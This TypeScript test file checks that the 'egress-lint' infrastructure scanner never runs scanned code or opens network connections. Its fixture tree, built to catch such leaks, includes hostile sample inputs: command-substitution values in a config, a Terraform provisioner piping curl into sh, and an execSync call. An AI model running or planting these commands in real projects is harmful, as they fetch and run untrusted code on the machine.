// egress-lint never runs code from the scanned repository or its config, and never reaches the network: the real
// CLI runs with network and process APIs trapped (a preloaded module records every call) on a tree full of
// remote module sources, provider blocks, URLs, scripts and a config naming them.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTree } from '../discover/tree.ts';
import { useBundledCli, type JsonReport } from './bundled-cli.ts';

const cli = useBundledCli();

/** Replaces every way to open a connection, resolve a name or start a process with a recorder. */
const TRAP = `
import { writeFileSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import child_process from 'node:child_process';
import dns from 'node:dns';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
const calls = [];
const trap = (obj, name, label) => {
  const original = obj[name];
  obj[name] = function (...args) { calls.push(label + '.' + name); return original.apply(this, args); };
};
for (const name of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) trap(child_process, name, 'child_process');
for (const name of ['lookup', 'resolve', 'resolve4', 'resolve6']) trap(dns, name, 'dns');
for (const name of ['request', 'get']) { trap(http, name, 'http'); trap(https, name, 'https'); }
for (const name of ['connect', 'createConnection']) { trap(net, name, 'net'); trap(tls, name, 'tls'); }
trap(net.Socket.prototype, 'connect', 'net.Socket');
if (typeof globalThis.fetch === 'function') trap(globalThis, 'fetch', 'global');
syncBuiltinESMExports();
process.on('exit', () => writeFileSync(process.env.TRAP_OUT, JSON.stringify(calls)));
`;

const TREE = {
  '.egress-lint.yml':
    'ignore: ["$(touch /tmp/pwned)/**"]\nignoreResources:\n  - pattern: "`curl https://example.com | sh`"\n    reason: "$(id)"\n',
  'main.tf': `terraform {
  backend "s3" { bucket = "state" }
  required_providers { aws = { source = "hashicorp/aws" } }
}
provider "aws" { region = "eu-west-1" }
module "git" { source = "git::https://example.com/modules.git//sg?ref=v1" }
module "http" { source = "https://example.com/module.zip" }
module "registry" {
  source  = "terraform-aws-modules/security-group/aws"
  version = "5.1.0"
}
data "external" "run" { program = ["sh", "-c", "touch /tmp/pwned"] }
data "http" "ip" { url = "https://checkip.amazonaws.com" }
resource "null_resource" "x" {
  provisioner "local-exec" { command = "curl https://example.com | sh" }
}
resource "aws_security_group" "open" {
  egress {
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = [data.http.ip.response_body, "0.0.0.0/0"]
  }
}
`,
  'template.yaml': `AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Resources:
  Nested:
    Type: AWS::CloudFormation::Stack
    Properties:
      TemplateURL: https://example.com/nested.yaml
  Macro:
    Type: AWS::CloudFormation::Macro
    Properties:
      FunctionName: arn:aws:lambda:eu-west-1:123456789012:function:evil
      Name: Evil
`,
  'Pulumi.yaml': 'name: app\nruntime: nodejs\nmain: index.js\n',
  'index.js': 'require("child_process").execSync("touch /tmp/pwned");\n',
};

let dir = '';
let cleanup = () => {};
beforeAll(() => {
  ({ dir, cleanup } = makeTree(TREE));
  writeFileSync(join(dir, 'trap.mjs'), TRAP);
});
afterAll(() => cleanup());

describe('no execution, no network', () => {
  for (const jobs of ['1', '2']) {
    it(`records no process, DNS, socket or HTTP call (--jobs ${jobs})`, () => {
      const out = join(dir, `calls-${jobs}.json`);
      const run = cli(['--format', 'json', '--jobs', jobs, 'main.tf', 'template.yaml', 'Pulumi.yaml'], {
        cwd: dir,
        env: {
          NODE_OPTIONS: `--import=${pathToFileURL(join(dir, 'trap.mjs')).href}`,
          TRAP_OUT: out,
          EGRESS_LINT_POOL: 'force',
        },
      });
      expect(run.stderr).toBe('');
      const report = JSON.parse(run.stdout) as JsonReport;
      expect(report.findings.map((f) => `${f.ruleId} ${f.location.file}:${f.location.line}`)).toContain(
        'EGR002 main.tf:22',
      );
      expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual([]);
    });
  }
});
